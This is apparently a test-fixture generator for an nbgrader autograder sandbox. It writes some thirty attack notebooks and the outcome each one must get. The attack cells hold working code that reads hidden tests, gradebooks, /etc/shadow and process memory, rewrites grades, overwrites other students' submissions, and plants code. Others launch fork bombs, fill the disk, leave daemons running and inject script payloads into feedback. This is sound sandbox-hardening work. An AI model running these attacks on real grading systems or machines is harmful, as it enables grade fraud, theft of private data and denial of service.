"""Build ``autograder/attacks/``: submissions that attack the grader, each with the outcome
the autograder must produce (``tests/test_sandbox_batch.py`` grades them all through
``nbgrader autograde`` with the kit's config and through the pipeline).

    python -m autograder.make_attacks        # rewrites autograder/attacks/

Every attack is the released Lab 1 with the solution filled in (full marks when graded
honestly) plus one last code cell that tries one thing a student might do to the grader,
written as the submission that *would* defeat the protection. When it succeeds it prints a
line starting with ``LEAKED:`` (read a secret, wrote somewhere it must not, reached the
network, ...): the tests require that no such line appears anywhere. Processes an attack
leaves behind carry :data:`SURVIVOR` in their command line: none may exist after grading.

:data:`ATTACKS` lists, for each, the status it must get (``graded`` with full marks, or
``grading error`` with a reason) and what else the tests check (``capped`` output, a
``flag`` from intake, ``feedback`` free of script and hidden tests).
"""
from __future__ import annotations

import shutil
import sys
from dataclasses import dataclass
from pathlib import Path

import nbformat

from .attacks_withheld import CODE as WITHHELD_CODE, WRITTEN
from .make_samples import LAB1, filled, released

HERE = Path(__file__).resolve().parent
#: In the command line of every process an attack starts to outlive its job.
SURVIVOR = "nnopt-attack-survivor"

#: Defined at the top of every attack cell (a real submission would carry the same helpers).
PRELUDE = '''import os, sys, json, time, signal, socket, subprocess
def leak(what):
    print("LEAKED:", str(what)[:300])
def walk_up():
    here, out = os.path.abspath(os.getcwd()), []
    while True:
        out.append(here)
        if os.path.dirname(here) == here:
            return out
        here = os.path.dirname(here)
def find(match, roots=("/home", "/root", "/srv", "/opt", "/work", "/tmp", "/var", "/mnt"), depth=5):
    """Files whose name satisfies match: every folder above the working folder, and the usual
    places below / (what a student hunting for the course folder would search)."""
    hits = []
    for top in walk_up() + list(roots):
        base = top.count(os.sep)
        for folder, dirs, files in os.walk(top, onerror=lambda e: None):
            if folder.count(os.sep) - base >= (depth if top in roots else 3):
                dirs[:] = []
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "site-packages", "node_modules")]
            hits += [os.path.join(folder, f) for f in files if match(f)]
    return sorted(set(hits))
'''


def _survivor(code: str) -> str:
    """A command line for a process that outlives the job, marked with SURVIVOR."""
    return f"[sys.executable, '-c', {code!r}, {SURVIVOR!r}]"


SLEEPER = _survivor("import time; time.sleep(10**6)")

CODE = {
    "read-solutions": '''
for path in find(lambda f: f.endswith(".ipynb")):
    try:
        text = open(path, errors="replace").read()
    except OSError:
        continue
    if "BEGIN HIDDEN TESTS" in text:
        leak(path + ": " + text[text.index("BEGIN HIDDEN TESTS"):][:200])
''',
    "read-gradebook": '''
import sqlite3
for path in find(lambda f: f.endswith(".db")):
    try:
        rows = sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("select id from student").fetchall()
        leak(f"{path}: students {rows}")
    except Exception:
        pass
''',
    "write-gradebook": '''
import sqlite3
for path in find(lambda f: f == "gradebook.db"):
    try:
        db = sqlite3.connect(path)
        db.execute("update grade set extra_credit = 100")
        db.execute("update grade set auto_score = 0 where auto_score > 0")
        db.commit()
        leak("gradebook changed: " + path)
    except Exception:
        pass
''',
    "aa-tamper-submissions": '''
for path in find(lambda f: f.endswith(".ipynb")):
    if "submitted" in path.split(os.sep) and "aa-tamper-submissions" not in path:
        try:
            open(path, "w").write("{}")
            leak("overwrote " + path)
        except OSError:
            pass
''',
    "read-homes": '''
for folder in ["/home", "/root", os.path.expanduser("~root")]:
    for base, dirs, files in os.walk(folder, onerror=lambda e: None):
        dirs[:] = [d for d in dirs if d != ".pyenv"]           # the Python install is shown
        for name in files:
            try:
                open(os.path.join(base, name), "rb").read(1)
                leak(os.path.join(base, name))
            except OSError:
                pass
for path in ["/etc/shadow", "/etc/ssh/ssh_host_ed25519_key", "/etc/sudoers"]:
    try:
        open(path, "rb").read(1)
        leak(path)
    except OSError:
        pass
if len(open("/etc/passwd").read().splitlines()) > 2:
    leak("the machine's accounts are listed in /etc/passwd")
''',
    "env-and-processes": '''
for key, value in os.environ.items():
    if any(word in value for word in ("autograder", "gradebook", "solutions", "nbgrader_config")):
        leak(f"{key}={value}")
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ").decode()
    except OSError:
        continue
    if any(word in cmd for word in ("nbgrader", "pytest", "autograder", "gradebook", "solutions")):
        leak(f"process {pid}: {cmd[:150]}")
''',
    "kill-parent": '''
os.kill(os.getppid(), signal.SIGKILL)       # the process that runs the notebook
time.sleep(5)
''',
    "fork-bomb": f'''
children = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            os.execv(sys.executable, {SLEEPER})
        children += 1
except OSError as exc:
    print("fork stopped after", children, "children:", exc)
''',
    "thread-bomb": '''
import threading
started = 0
try:
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        started += 1
except RuntimeError as exc:
    print("threads stopped after", started, ":", exc)
''',
    "new-session-child": f'''
LATER = """
import os, sqlite3, time
for _ in range(600):
    for top in ["/", "/tmp", "/work", "/home", "/root"]:
        for base, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr")]
            for name in files:
                if name == "gradebook.db":
                    try:
                        db = sqlite3.connect(os.path.join(base, name))
                        db.execute("update grade set extra_credit = 50"); db.commit()
                    except Exception:
                        pass
    time.sleep(1)
"""
subprocess.Popen([sys.executable, "-c", LATER, {SURVIVOR!r}], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''',
    "double-fork-daemon": f'''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, {SLEEPER})
    os._exit(0)
time.sleep(1)
''',
    "deaf-sleeper": '''
signal.signal(signal.SIGINT, signal.SIG_IGN)      # ignores the cell timeout's interrupt
while True:
    time.sleep(1)
''',
    "fill-disk": '''
written = 0
for folder in [os.getcwd(), "/tmp", os.path.expanduser("~")]:
    for i in range(64):
        try:
            with open(os.path.join(folder, f"fill{i}.bin"), "wb") as fh:
                for _ in range(256):
                    fh.write(b"\\0" * (1 << 20))
                    written += 1 << 20
        except OSError as exc:
            print("write stopped:", exc.strerror)
            break
print("wrote", written >> 20, "MiB")
if written > 4 << 30:
    leak(f"wrote {written >> 20} MiB")
''',
    "huge-print": '''
print("x" * 200_000_000)
''',
    "output-flood": '''
for i in range(3000):
    print(i, "y" * 600, flush=True)
''',
    "huge-traceback": '''
raise ValueError("z" * 50_000_000)
''',
    "alloc-3g": '''
import numpy as np
try:
    block = np.ones(3 << 30, dtype=np.uint8)
    leak(f"allocated {block.nbytes >> 20} MiB")
except MemoryError:
    print("3 GiB allocation refused")
''',
    "mmap-3g": '''
import mmap
try:
    area = mmap.mmap(-1, 3 << 30)
    for offset in range(0, 3 << 30, 1 << 26):
        area[offset] = 1
    leak("mapped and touched 3 GiB of shared memory")
except (OSError, MemoryError, ValueError) as exc:
    print("mmap refused:", exc)
''',
    "raise-limits": '''
import resource
for limit in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        leak(f"raised limit {limit}")
    except (ValueError, OSError):
        pass
''',
    "network": '''
targets = [("1.1.1.1", 53), ("8.8.8.8", 53), ("pypi.org", 443)] + [("127.0.0.1", p) for p in (22, 80, 443, 5432, 8000, 8081, 8888)]
for host, port in targets:
    try:
        socket.create_connection((host, port), timeout=2).close()
        leak(f"connected to {host}:{port}")
    except OSError:
        pass
''',
    "script-in-feedback": '''
from IPython.display import HTML, Javascript, Markdown, SVG, display
display(HTML("<script>document.title = 'PWNED-script'</script><b>hello</b>"))
display(HTML('<img src="x" onerror="document.title = \\'PWNED-onerror\\'">'))
display(Javascript("document.title = 'PWNED-javascript'"))
display(Markdown("<script>document.title = 'PWNED-markdown'</script>"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="PWNED-svg"</script></svg>'))
''',
    "leak-hidden-tests": '''
for source in In[:-1]:                              # every cell the kernel ran, hidden tests too
    if "grading." in source:
        print(source)
for path in find(lambda f: f.endswith(".ipynb")):   # the notebook being graded
    print(open(path, errors="replace").read()[:100000])
''',
    "ptrace-executor": '''
parent = os.getppid()
for path, mode in [(f"/proc/{parent}/mem", "rb"), (f"/proc/{parent}/environ", "rb")]:
    try:
        open(path, mode).read(16)
        leak("read " + path)
    except OSError:
        pass
try:
    for fd in os.listdir(f"/proc/{parent}/fd"):
        try:
            os.open(f"/proc/{parent}/fd/{fd}", os.O_WRONLY)
            leak(f"opened the executor's fd {fd}")
        except OSError:
            pass
except OSError:
    pass
''',
    "forge-result": '''
fake = json.dumps({"status": "ok", "reason": "", "notebook": {"cells": [], "metadata": {}}})
for fd in range(1, 64):
    try:
        os.write(fd, fake.encode())
    except OSError:
        pass
''',
    "user-namespace": '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000) == 0:                 # CLONE_NEWUSER
    leak("created a user namespace")
if subprocess.run(["unshare", "-U", "-r", "true"], capture_output=True).returncode == 0:
    leak("unshare -U -r worked")
''',
    "plant-code": '''
import site, nnopt
targets = [os.path.join(p, "sitecustomize.py") for p in site.getsitepackages()]
targets += [os.path.join(os.path.dirname(nnopt.__file__), "planted.py"), "/usr/lib/planted.py",
            os.path.join(sys.prefix, "bin", "planted")]
for path in targets:
    try:
        open(path, "w").write("print('planted')\\n")
        leak("wrote " + path)
    except OSError:
        pass
''',
    "symlink-escape": '''
for rel in ["../../../gradebook.db", "../../../../solutions", "../../../nbgrader_config.py"]:
    if os.path.exists(rel):
        leak("reached " + os.path.abspath(rel))
os.symlink("/", "rootlink")
for name in ["home", "srv", "var", "run"]:
    if os.path.exists(os.path.join("rootlink", name)):
        leak("the machine's /" + name + " is visible")
''',
}


@dataclass(frozen=True)
class Attack:
    """One attack submission and the outcome the autograder must produce."""

    student: str                 # its folder in attacks/ (folder-per-student layout)
    threat: str
    status: str = "graded"       # graded (with full marks) | grading error
    reason: str = ""             # part of the grading error's reason (alternatives: "a or b")
    capped: bool = False         # its outputs must have been cut to the byte limits
    file: str = f"{LAB1}.ipynb"  # the file name inside its folder
    unfilled: bool = False       # the released lab as is (0 points), not the solution

    @property
    def path(self) -> str:
        return f"{self.student}/{self.file}"

    def explains(self, detail: str) -> bool:
        """Whether a grading error's ``detail`` is one this attack may get (on a loaded machine
        a broken kernel connection can run into the wall limit before it is noticed)."""
        return any(part in detail for part in self.reason.split(" or "))


ATTACKS = [
    Attack("read-solutions", "reads solutions/ (hidden tests) and prints them into its feedback"),
    Attack("read-gradebook", "reads the gradebook (every student's grades)"),
    Attack("write-gradebook", "UPDATE grade SET extra_credit = 100 in the gradebook"),
    Attack("aa-tamper-submissions", "overwrites the other students' submitted notebooks before they are graded"),
    Attack("read-homes", "reads home folders, /etc/shadow and the machine's accounts"),
    Attack("env-and-processes", "reads the grader's environment and command lines"),
    Attack("kill-parent", "SIGKILL to the process that runs its notebook", "grading error",
           "without a result"),
    Attack("fork-bomb", "forks 2000 processes that sleep forever"),
    Attack("thread-bomb", "starts 5000 threads"),
    Attack("new-session-child", "a start_new_session child that edits grades after grading"),
    Attack("double-fork-daemon", "a double-forked daemon that outlives its job"),
    Attack("deaf-sleeper", "sleeps forever and ignores the timeout's interrupt", "grading error",
           "stopped answering"),
    Attack("fill-disk", "writes until the disk is full"),
    Attack("huge-print", "one 200 MB print", capped=True),
    Attack("output-flood", "3000 flushed prints of 600 bytes (1.8 MB)", capped=True),
    Attack("huge-traceback", "an exception with a 50 MB message", capped=True),
    Attack("alloc-3g", "allocates 3 GiB with numpy"),
    Attack("mmap-3g", "maps and touches 3 GiB of shared memory (past RLIMIT_DATA)"),
    Attack("raise-limits", "raises its own resource limits"),
    Attack("network", "connects to the internet and to services of the machine"),
    Attack("script-in-feedback", "<script>, onerror=, Javascript, SVG and markdown script in its outputs"),
    Attack("leak-hidden-tests", "prints the hidden tests from IPython's history and the notebook file"),
    Attack("ptrace-executor", "reads the executor's memory and opens its result pipe"),
    Attack("forge-result", "writes a forged result to every file descriptor (which also breaks its own "
           "kernel's connection)", "grading error", "stopped answering or wall limit"),
    Attack("user-namespace", "creates a user namespace (kernel attack surface)"),
    Attack("plant-code", "writes sitecustomize.py / nnopt modules for the next submissions"),
    Attack("symlink-escape", "relative paths and symlinks out of its work folder"),
    Attack("reach-withheld", "reaches the withheld references through pickle, site-packages, __pycache__, "
           "the distribution's files and /proc/self/root"),
    Attack("tex-in-feedback", "MathJax \\href{javascript:...}, \\href{data:...}, \\style, \\class, \\cssId, "
           "\\unicode, \\data in the written answer, typeset into the feedback"),
    Attack("tex-bomb", "3000-deep nested TeX in the written answer (typesetting time and memory)"),
    Attack("math-flood", "50,000 formulas in the written answer: feedback typesetting (outside the sandbox) "
           "as a denial of service for the whole batch"),
    Attack("mallory-intake", "a file named alice_lab1.ipynb in Mallory's folder, to replace Alice's "
           "submission", file="alice_lab1.ipynb", unfilled=True),
]
#: The written answer of script-in-feedback: script in a markdown cell students edit.
MARKDOWN_SCRIPT = ('My answer <script>document.title = "PWNED-answer"</script>'
                   '<img src="x" onerror="document.title = \'PWNED-answer-img\'">')


def notebook(attack: Attack) -> nbformat.NotebookNode:
    """The submission of ``attack`` (see the module docstring)."""
    if attack.unfilled:
        return released(LAB1)
    nb = filled(LAB1)
    if attack.student == "script-in-feedback":
        cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "written_answer")
        cell.source = MARKDOWN_SCRIPT
    if attack.student in WRITTEN:
        cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "written_answer")
        cell.source = WRITTEN[attack.student]
    code = {**CODE, **WITHHELD_CODE}[attack.student]
    nb.cells.append(nbformat.v4.new_code_cell(PRELUDE + code, id=f"attack-{attack.student}"))
    return nb


def table() -> str:
    """``attacks/README.md``: every attack and the outcome it must get."""
    lines = ["# Attack submissions (built by `python -m autograder.make_attacks`)", "",
             "Each folder is one student's submission of Lab 1 (solution filled in) plus one cell that",
             "attacks the grader. `tests/test_sandbox_batch.py` grades them through `nbgrader autograde` and",
             "the pipeline and checks the outcome below, that no `LEAKED:` line appears, and that no",
             f"process marked `{SURVIVOR}` survives.", "",
             "| submission | what it tries | must get |", "|---|---|---|"]
    for a in ATTACKS:
        outcome = "graded, full marks" if a.status == "graded" and not a.unfilled else \
            "graded as its own folder's (0 points), reported" if a.unfilled else f"grading error: ...{a.reason}..."
        lines.append(f"| `{a.path}` | {a.threat} | {outcome}{' (output capped)' if a.capped else ''} |")
    return "\n".join(lines) + "\n"


def build(target: Path = HERE / "attacks") -> list[Path]:
    """Write every attack into ``target`` (emptied first) and its README; return the paths."""
    if target.exists():
        shutil.rmtree(target)
    paths = []
    for attack in ATTACKS:
        path = target / attack.path
        path.parent.mkdir(parents=True)
        nbformat.write(notebook(attack), str(path))
        paths.append(path)
    (target / "README.md").write_text(table())
    return [*paths, target / "README.md"]


if __name__ == "__main__":
    for p in build(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE / "attacks"):
        print(p)
